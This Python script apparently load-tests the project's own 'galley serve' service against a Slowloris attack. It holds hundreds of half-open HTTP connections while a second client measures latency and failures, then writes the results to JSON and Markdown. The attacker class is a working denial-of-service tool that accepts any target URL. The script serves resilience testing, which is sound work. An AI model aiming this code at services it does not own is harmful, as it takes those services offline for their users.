#!/usr/bin/env python3
"""Slowloris against `galley serve` (see slowloris.sh, which starts the service and calls this).

One client holds N half-open connections (a request line and one header, never the blank line
that ends the headers), opening a new one whenever the service closes one. Another client reads
GET /api/v1/builds in a loop, first without the attack (baseline), then during it. Recorded:
the reader's answers (status counts, latency percentiles, failures), how many half-open
connections the service closed and how long it held them, how many were refused with 503.

Standard library only. No timing is asserted: the figures go to the results file.
"""

import argparse
import http.client
import json
import socket
import threading
import time
import urllib.parse


def pct(values, p):
    if not values:
        return None
    values = sorted(values)
    return values[max(0, min(len(values) - 1, round(p / 100 * (len(values) - 1))))]


def ms(x):
    return None if x is None else round(x * 1000, 1)


def reader(host, port, token, seconds):
    """GET /api/v1/builds in a loop for `seconds`; one connection per request."""
    statuses, took, failures = {}, [], []
    until = time.perf_counter() + seconds
    while time.perf_counter() < until:
        t0 = time.perf_counter()
        try:
            conn = http.client.HTTPConnection(host, port, timeout=10)
            headers = {"Authorization": f"Bearer {token}"} if token else {}
            conn.request("GET", "/api/v1/builds?limit=5", headers=headers)
            resp = conn.getresponse()
            resp.read()
            statuses[resp.status] = statuses.get(resp.status, 0) + 1
            took.append(time.perf_counter() - t0)
            conn.close()
        except OSError as e:
            failures.append(type(e).__name__)
        time.sleep(0.05)
    return {
        "requests": sum(statuses.values()) + len(failures),
        "statuses": {str(k): v for k, v in sorted(statuses.items())},
        "failures": len(failures),
        "failure_kinds": sorted(set(failures)),
        "p50_ms": ms(pct(took, 50)),
        "p99_ms": ms(pct(took, 99)),
        "max_ms": ms(max(took) if took else None),
    }


class Attacker:
    """Keeps `n` half-open connections, replacing each one the service closes."""

    HALF = b"GET /api/v1/builds HTTP/1.1\r\nHost: 127.0.0.1\r\n"

    def __init__(self, host, port, n):
        self.host, self.port, self.n = host, port, n
        self.stop = threading.Event()
        self.lock = threading.Lock()
        self.opened = self.closed_by_server = self.refused_503 = self.connect_errors = 0
        self.held = []

    def one(self):
        while not self.stop.is_set():
            try:
                s = socket.create_connection((self.host, self.port), timeout=5)
                s.sendall(self.HALF)
                s.settimeout(1)
            except OSError:
                with self.lock:
                    self.connect_errors += 1
                time.sleep(0.1)
                continue
            opened = time.perf_counter()
            with self.lock:
                self.opened += 1
            data = b""
            while not self.stop.is_set():
                try:
                    chunk = s.recv(4096)
                except socket.timeout:
                    continue
                except OSError:
                    chunk = b""
                if not chunk:
                    break
                data += chunk
            if self.stop.is_set():
                s.close()
                return
            with self.lock:
                if data.startswith(b"HTTP/1.1 503"):
                    self.refused_503 += 1
                else:
                    self.closed_by_server += 1
                    self.held.append(time.perf_counter() - opened)
            s.close()

    def start(self):
        self.threads = [threading.Thread(target=self.one, daemon=True) for _ in range(self.n)]
        for t in self.threads:
            t.start()

    def finish(self):
        self.stop.set()
        for t in self.threads:
            t.join(timeout=3)
        return {
            "half_open": self.n,
            "opened": self.opened,
            "closed_by_server": self.closed_by_server,
            "refused_503": self.refused_503,
            "connect_errors": self.connect_errors,
            "held_p50_s": None if not self.held else round(pct(self.held, 50), 2),
            "held_max_s": None if not self.held else round(max(self.held), 2),
        }


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--token")
    ap.add_argument("--connections", type=int, default=500)
    ap.add_argument("--seconds", type=int, default=20)
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    u = urllib.parse.urlparse(a.url)
    baseline = reader(u.hostname, u.port, a.token, max(3, a.seconds // 2))
    attacker = Attacker(u.hostname, u.port, a.connections)
    attacker.start()
    time.sleep(1)
    during = reader(u.hostname, u.port, a.token, a.seconds)
    attack = attacker.finish()
    result = {"baseline": baseline, "under_attack": during, "attack": attack}
    with open(a.out, "w") as f:
        json.dump(result, f, indent=2)
    md = a.out.rsplit(".", 1)[0] + ".md"
    with open(md, "w") as f:
        f.write(f"# Slowloris: {a.connections} half-open connections, another client reading\n\n")
        f.write("| reader | requests | statuses | failures | p50 ms | p99 ms | max ms |\n|---|---|---|---|---|---|---|\n")
        for name, r in (("baseline", baseline), ("under attack", during)):
            f.write(f"| {name} | {r['requests']} | {r['statuses']} | {r['failures']} | {r['p50_ms']} | {r['p99_ms']} | {r['max_ms']} |\n")
        f.write("\n| half-open | opened | closed by the service | refused 503 | held p50 s | held max s |\n|---|---|---|---|---|---|\n")
        f.write(f"| {attack['half_open']} | {attack['opened']} | {attack['closed_by_server']} | {attack['refused_503']} | {attack['held_p50_s']} | {attack['held_max_s']} |\n")
    print(json.dumps(result))


if __name__ == "__main__":
    main()
